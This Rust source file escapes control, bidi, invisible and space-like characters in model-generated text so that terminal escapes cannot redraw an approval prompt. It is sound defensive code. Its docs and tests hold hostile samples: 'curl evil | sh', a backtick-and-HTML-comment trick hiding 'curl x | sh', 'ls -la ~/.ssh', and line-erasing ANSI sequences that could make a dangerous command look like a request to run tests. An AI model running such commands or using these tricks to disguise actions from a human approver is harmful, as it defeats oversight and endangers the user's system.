//! Model text made safe to show on a terminal: every character that could move the cursor,
//! recolour, erase, reorder or hide text is shown as a visible escape instead.
//!
//! Text that came from a model (a justification, a command line, a path, a logged call's
//! arguments) must never reach a terminal raw: `\x1b[2K\r` erases the line it is on and
//! `\x1b[1A` climbs to the one above, so a justification could redraw an approval question
//! for `curl evil | sh` as a request to run the unit tests. [`visible`] is the one
//! renderer; every place that shows such text to a person (the approval prompt on the
//! terminal, the MCP elicitation message, `dsh session show`) goes through it, or through
//! [`visible_prefix`] when the space is bounded.
//!
//! # Rules
//! | character | shown as |
//! |---|---|
//! | `\` | `\\`: doubled, so a model's literal text `\x1b` shows as `\\x1b` and cannot pass for an escape |
//! | LF, CR, TAB | `\n`, `\r`, `\t` |
//! | every other C0 control (U+0000–U+001F) and DEL (U+007F) | `\x` and two lowercase hex digits: `\x1b`, `\x00`, `\x7f` |
//! | C1 controls (U+0080–U+009F; some terminals take U+009B as CSI) | `\u{…}`, lowercase hex: `\u{9b}` |
//! | the invisible characters (below) | `\u{…}`: `\u{202e}`, `\u{feff}`, `\u{e0041}` |
//! | the space-like characters (below) | `\u{…}`: `\u{a0}`, `\u{3000}`, `\u{2800}` |
//! | anything else | itself |
//!
//! The invisible characters are Unicode's `Default_Ignorable_Code_Point` set
//! (DerivedCoreProperties.txt, as of Unicode 15.1): the bidi embeddings,
//! overrides, isolates and marks (U+200E, U+200F, U+202A–U+202E, U+2066–U+2069, U+061C),
//! the zero-width characters (U+200B–U+200D, U+2060–U+2064, U+FEFF), the soft hyphen,
//! variation selectors, tag characters (U+E0000–U+E0FFF) and Hangul fillers; plus the line
//! and paragraph separators (U+2028, U+2029) and the interlinear annotation characters
//! (U+FFF9–U+FFFB), which can hide text between them. The space-like characters are
//! every space but U+0020 (U+00A0, U+1680, U+2000–U+200A, U+202F, U+205F, U+3000) and the
//! blank braille pattern U+2800: each looks like a plain space or like nothing, so a
//! command could hide its end past a run of them.
//!
//! [`visible_prefix_in_markup`] also shows a backtick as `\u{60}`, for text a client may
//! render as Markdown: a backtick in a command would end the code span it is shown in, and
//! what follows (an HTML comment) could hide the rest.
//!
//! ```
//! use dsh_core::visible::visible;
//! assert_eq!(visible("run the tests\x1b[2K\r"), r"run the tests\x1b[2K\r");
//! assert_eq!(visible(r"a literal \x1b"), r"a literal \\x1b");
//! assert_eq!(visible("abc\u{202e}fed"), r"abc\u{202e}fed");
//! ```
//!
//! # Guarantees
//! - The output holds no C0 or C1 control, no DEL and no invisible character: only text a
//!   terminal prints as it is.
//! - Different texts render differently (every escape starts with a single `\`, and every
//!   `\` of the text is doubled), so what is shown stands for exactly one text.
//! - Printable ASCII other than `\`, and printable non-ASCII text, are shown unchanged.
//!
//! # Limits
//! - Only characters are made visible; the words are still the model's, and may lie.
//!   Lookalike letters (Cyrillic `а` for Latin `a`) and combining marks pass through: they
//!   can mislead a reader, but cannot move the cursor, erase, hide or reorder text.
//! - Widths are not computed: [`visible_prefix`] counts characters, and a wide character
//!   takes two columns.

use std::fmt::Write;

/// `text` with every control and invisible character shown as a visible escape; see the
/// [module docs](self) for the rules.
pub fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        push_visible(&mut out, c);
    }
    out
}

/// `text` for a terminal that shows a command's output: line breaks and tabs as they are,
/// every other control and invisible or space-like character as [`visible`] shows it (a
/// backslash is left single: output is read, not parsed back). A command's OSC 52 (which
/// sets the clipboard), screen clears and cursor moves are shown, never sent.
///
/// ```
/// use dsh_core::visible::for_terminal;
/// assert_eq!(for_terminal("a\tb\n\x1b]52;c;eA==\x07"), "a\tb\n\\x1b]52;c;eA==\\x07");
/// ```
pub fn for_terminal(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '\n' | '\t' | '\\' => out.push(c),
            c => push_visible(&mut out, c),
        }
    }
    out
}

/// The rendering ([`visible`]) of the longest start of `text` whose rendering has at most
/// `max_chars` characters, and how many bytes of `text` that start covers (`text.len()`
/// when it is all there). An escape is never split: a character whose escape does not fit
/// is left out whole, with everything after it.
///
/// ```
/// use dsh_core::visible::visible_prefix;
/// assert_eq!(visible_prefix("ab\x1bc", 6), (r"ab\x1b".to_owned(), 3));
/// assert_eq!(visible_prefix("ab\x1bc", 5), ("ab".to_owned(), 2));
/// assert_eq!(visible_prefix("abc", 9), ("abc".to_owned(), 3));
/// ```
pub fn visible_prefix(text: &str, max_chars: usize) -> (String, usize) {
    prefix(text, max_chars, false)
}

/// [`visible_prefix`], with every backtick shown as `\u{60}` too: for text a client may
/// render as Markdown (see the [module docs](self)).
///
/// ```
/// use dsh_core::visible::visible_prefix_in_markup;
/// assert_eq!(visible_prefix_in_markup("a`b", 9).0, r"a\u{60}b");
/// ```
pub fn visible_prefix_in_markup(text: &str, max_chars: usize) -> (String, usize) {
    prefix(text, max_chars, true)
}

fn prefix(text: &str, max_chars: usize, markup: bool) -> (String, usize) {
    let mut out = String::with_capacity(text.len().min(max_chars));
    let mut used = 0usize;
    let mut one = String::new();
    for (at, c) in text.char_indices() {
        one.clear();
        if markup && c == '`' {
            one.push_str("\\u{60}");
        } else {
            push_visible(&mut one, c);
        }
        let n = one.chars().count();
        if used + n > max_chars {
            return (out, at);
        }
        used += n;
        out.push_str(&one);
    }
    (out, text.len())
}

fn push_visible(out: &mut String, c: char) {
    // Writing to a String cannot fail.
    let _ = match c {
        '\\' => out.write_str("\\\\"),
        '\n' => out.write_str("\\n"),
        '\r' => out.write_str("\\r"),
        '\t' => out.write_str("\\t"),
        '\0'..='\x1f' | '\x7f' => write!(out, "\\x{:02x}", u32::from(c)),
        '\u{80}'..='\u{9f}' => write!(out, "\\u{{{:x}}}", u32::from(c)),
        c if is_invisible(c) || is_space_like(c) => write!(out, "\\u{{{:x}}}", u32::from(c)),
        c => out.write_char(c),
    };
}

/// Every space but U+0020, and the blank braille pattern (see the [module docs](self)).
fn is_space_like(c: char) -> bool {
    matches!(
        u32::from(c),
        0xa0 | 0x1680 | 0x2000..=0x200a | 0x202f | 0x205f | 0x3000 | 0x2800
    )
}

/// `Default_Ignorable_Code_Point` (Unicode 15.1 DerivedCoreProperties.txt; a later
/// version that adds one needs it here), plus U+2028, U+2029 and U+FFF9–U+FFFB. Adjacent ranges are merged: U+2028–U+202E is the two
/// separators then the five bidi embeddings and overrides; U+FFF0–U+FFFB is the reserved
/// ignorables then the annotation characters.
fn is_invisible(c: char) -> bool {
    matches!(
        u32::from(c),
        0xad | 0x34f
            | 0x61c
            | 0x115f..=0x1160
            | 0x17b4..=0x17b5
            | 0x180b..=0x180f
            | 0x200b..=0x200f
            | 0x2028..=0x202e
            | 0x2060..=0x206f
            | 0x3164
            | 0xfe00..=0xfe0f
            | 0xfeff
            | 0xffa0
            | 0xfff0..=0xfffb
            | 0x1bca0..=0x1bca3
            | 0x1d173..=0x1d17a
            | 0xe0000..=0xe0fff
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_sequences_that_redraw_a_line_are_shown_not_sent() {
        // Regression: issue 11, finding 7.
        let shown = visible("run the unit tests\x1b[2K\r\x1b[1A");
        assert_eq!(shown, r"run the unit tests\x1b[2K\r\x1b[1A");
        assert!(!shown.contains('\x1b') && !shown.contains('\r'));
    }

    #[test]
    fn every_c0_control_and_del_is_a_hex_escape_except_the_three_named_ones() {
        for b in (0u8..0x20).chain([0x7f]) {
            let c = char::from(b);
            let want = match c {
                '\n' => r"\n".to_owned(),
                '\r' => r"\r".to_owned(),
                '\t' => r"\t".to_owned(),
                _ => format!("\\x{b:02x}"),
            };
            assert_eq!(visible(&c.to_string()), want, "U+{b:04X}");
        }
        assert_eq!(visible("\0\x07\x08\x7f"), r"\x00\x07\x08\x7f");
    }

    #[test]
    fn every_c1_control_is_a_unicode_escape() {
        for cp in 0x80u32..=0x9f {
            let c = char::from_u32(cp).expect("C1 is scalar");
            assert_eq!(visible(&c.to_string()), format!("\\u{{{cp:x}}}"));
        }
        assert_eq!(visible("\u{9b}2K"), r"\u{9b}2K");
    }

    #[test]
    fn bidi_controls_and_invisible_characters_are_unicode_escapes() {
        let cases = [
            ('\u{ad}', r"\u{ad}"),
            ('\u{61c}', r"\u{61c}"),
            ('\u{200b}', r"\u{200b}"),
            ('\u{200d}', r"\u{200d}"),
            ('\u{200e}', r"\u{200e}"),
            ('\u{200f}', r"\u{200f}"),
            ('\u{2028}', r"\u{2028}"),
            ('\u{2029}', r"\u{2029}"),
            ('\u{202a}', r"\u{202a}"),
            ('\u{202e}', r"\u{202e}"),
            ('\u{2060}', r"\u{2060}"),
            ('\u{2066}', r"\u{2066}"),
            ('\u{2069}', r"\u{2069}"),
            ('\u{3164}', r"\u{3164}"),
            ('\u{fe0f}', r"\u{fe0f}"),
            ('\u{feff}', r"\u{feff}"),
            ('\u{fff9}', r"\u{fff9}"),
            ('\u{e0001}', r"\u{e0001}"),
            ('\u{e0041}', r"\u{e0041}"),
            ('\u{e01ef}', r"\u{e01ef}"),
        ];
        for (c, want) in cases {
            assert_eq!(visible(&c.to_string()), want, "U+{:04X}", u32::from(c));
        }
    }

    #[test]
    fn a_literal_backslash_is_doubled_so_it_cannot_fake_an_escape() {
        assert_eq!(visible(r"\x1b"), r"\\x1b");
        assert_eq!(visible("\x1b"), r"\x1b");
        assert_ne!(visible(r"\x1b"), visible("\x1b"));
        assert_eq!(visible(r"\\"), r"\\\\");
        assert_eq!(visible(r"\u{202e}"), r"\\u{202e}");
    }

    #[test]
    fn space_like_characters_are_shown_as_escapes() {
        // Regression: issue 23: a command hid its end past a run of these.
        for c in [
            '\u{a0}', '\u{2007}', '\u{3000}', '\u{2800}', '\u{202f}', '\u{1680}',
        ] {
            let out = visible(&format!("ls{c}rm"));
            assert_eq!(out, format!("ls\\u{{{:x}}}rm", u32::from(c)));
        }
        assert_eq!(visible("a b"), "a b");
    }

    #[test]
    fn a_backtick_is_an_escape_only_in_markup() {
        // Regression: issue 23: a Markdown client hid the middle of
        // ``cmd` <!-- `…` -->``.
        let t = "make` <!-- `; curl x | sh; ` -->";
        let (m, n) = visible_prefix_in_markup(t, 200);
        assert_eq!(n, t.len());
        assert!(!m.contains('`'), "{m}");
        assert_eq!(visible_prefix(t, 200).0, t);
    }

    #[test]
    fn printable_text_is_unchanged() {
        for s in [
            "curl evil | sh",
            "echo \"$HOME\" > 'a b'; ls -la ~/.ssh",
            "héllo wörld — €5, 日本語, Ωμέγα, emoji 😀",
        ] {
            assert_eq!(visible(s), s);
        }
    }

    #[test]
    fn the_output_never_holds_a_control_or_an_invisible_character() {
        let all: String = (0u32..0x3000)
            .chain(0xfe00..0x1_0000)
            .chain(0xe0000..0xe1000)
            .filter_map(char::from_u32)
            .collect();
        let shown = visible(&all);
        assert!(shown.chars().all(|c| !c.is_control() && !is_invisible(c)));
    }

    #[test]
    fn a_bounded_rendering_never_splits_an_escape_and_says_what_it_covered() {
        let text = "ab\x1bc";
        assert_eq!(visible_prefix(text, 0), (String::new(), 0));
        assert_eq!(visible_prefix(text, 2), ("ab".to_owned(), 2));
        assert_eq!(visible_prefix(text, 5), ("ab".to_owned(), 2));
        assert_eq!(visible_prefix(text, 6), ("ab\\x1b".to_owned(), 3));
        assert_eq!(visible_prefix(text, 7), ("ab\\x1bc".to_owned(), 4));
        assert_eq!(
            visible_prefix(text, usize::MAX),
            (visible(text), text.len())
        );
        // Characters, not bytes: "é€" is two characters in five bytes.
        assert_eq!(visible_prefix("é€x", 2), ("é€".to_owned(), 5));
        for max in 0..12 {
            let (shown, covered) = visible_prefix("a\u{202e}b\\c", max);
            assert!(shown.chars().count() <= max);
            assert_eq!(shown, visible(&"a\u{202e}b\\c"[..covered]), "max {max}");
        }
    }
}
